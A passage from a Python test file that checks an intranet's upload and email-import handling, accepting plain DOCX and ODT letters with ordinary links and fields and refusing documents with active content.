    ("plain DOCX", "surat.docx", lambda: _docx()),
    (
        "DOCX with web and mail links and a local template",
        "surat.docx",
        lambda: _docx(
            rels=[
                ("hyperlink", "https://kpu-cilacapkab.go.id/", True),
                ("hyperlink", "mailto:humas@kpu-cilacapkab.go.id", True),
                ("attachedTemplate", "file:///C:\\Users\\humas\\Templates\\Surat.dotx", True),
                ("image", "media/image1.png", False),
            ]
        ),
    ),
    (
        "DOCX with ordinary fields",
        "surat.docx",
        lambda: _docx(
            _field(" PAGE ")
            + _field(' HYPERLINK "https://kpu-cilacapkab.go.id/" ')
            + _field(' INCLUDEPICTURE "https://kpu-cilacapkab.go.id/logo.png" \\* MERGEFORMATINET ')
        ),
    ),
    (
        "UTF-16 DOCX with a field nested after its name",
        "surat.docx",
        lambda: _rewritten(
            _docx(_nested(" IF ", ("PAGE", "1"), ' = 1 "pertama" "lanjutan" ')),
            "word/document.xml",
            _utf16,
        ),
    ),
    ("plain ODT", "surat.odt", lambda: _zip(_odt())),
    (
        "ODT with links, a picture, a chart and a local template",
        "surat.odt",
        lambda: _zip(
            _odt(
                '<text:p><text:a xlink:href="https://kpu-cilacapkab.go.id/">situs</text:a>'
                '<text:a xlink:href="#bab-2">bab 2</text:a></text:p>'
                '<draw:frame><draw:image xlink:href="Pictures/logo.png"/></draw:frame>'
                '<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame>',
                meta='<meta:template xlink:href="../../Templates/surat.ott"/>',
            )
        ),
    ),
]


@pytest.mark.parametrize("name, make, message", [h[1:] for h in HOSTILE_DOCUMENTS], ids=DOC_IDS)
def test_active_office_content_is_refused_naming_it(name, make, message):
    assert refusal(make(), name) == (message, 400)


@pytest.mark.parametrize(
    "name, make", [b[1:] for b in BENIGN_DOCUMENTS], ids=[b[0] for b in BENIGN_DOCUMENTS]
)
def test_benign_office_documents_are_accepted(name, make):
    assert accepted(make(), name) == (DOCX if name.endswith(".docx") else ODT)


@pytest.mark.parametrize("name, make, message", [h[1:] for h in HOSTILE_DOCUMENTS], ids=DOC_IDS)
def test_agenda_upload_refuses_active_documents(app, login, name, make, message):
    c = login("kontributor")
    before = snapshot(app)
    files = [(io.BytesIO(_pdf()), "baik.pdf"), (io.BytesIO(make()), name)]
    r = c.post(
        "/intranet/agenda/baru", data=form_material(files=files), content_type="multipart/form-data"
    )
    assert r.status_code == 400
    assert f"{name}: {message}" in r.get_data(as_text=True)
    assert snapshot(app) == before
    assert _stored(app) == []


@pytest.mark.parametrize("name, make, message", [h[1:] for h in HOSTILE_DOCUMENTS], ids=DOC_IDS)
def test_eml_import_drops_active_document_attachments(app, login, name, make, message):
    hostile = make()
    msg = email.message_from_bytes(_eml_with(_pdf()), policy=policy.default)
    msg.add_attachment(hostile, maintype="application", subtype="octet-stream", filename=name)
    r = login("kontributor").post(
        "/intranet/agenda/impor-eml",
        data={
            "eml": (io.BytesIO(msg.as_bytes()), "undangan.eml"),
            "category_id": "1",
            "sifat": "biasa",
            "security_class": "biasa",
        },
        content_type="multipart/form-data",
        follow_redirects=True,
    )
    assert r.status_code == 200
    assert f"Lampiran dilewati: {name}: {message}" in r.get_data(as_text=True)
    with app.app_context():
        files = db.session.execute(db.select(SourceFile)).scalars().all()
        assert sorted(f.mimetype for f in files) == ["application/pdf", "message/rfc822"]
    assert all(hostile not in p.read_bytes() for p in _stored(app))
